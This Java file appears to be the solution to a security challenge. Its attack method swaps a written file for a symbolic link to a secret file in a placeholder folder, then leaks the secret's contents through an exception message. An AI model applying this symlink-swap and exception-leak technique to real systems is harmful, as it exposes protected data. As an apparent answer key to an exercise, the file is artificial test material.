import java.nio.file.Files;
import java.nio.file.Path;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        Path swapped = Path.of("ATTACK_FOLDER/swapped");
        for (int i = 0; i < 1000; i++) {
            Files.writeString(swapped, "harmless");
            Files.delete(swapped);
            Files.createSymbolicLink(swapped, Path.of("ATTACK_FOLDER/secret.txt"));
            throw new IllegalStateException(Files.readString(swapped));
        }
    }
}
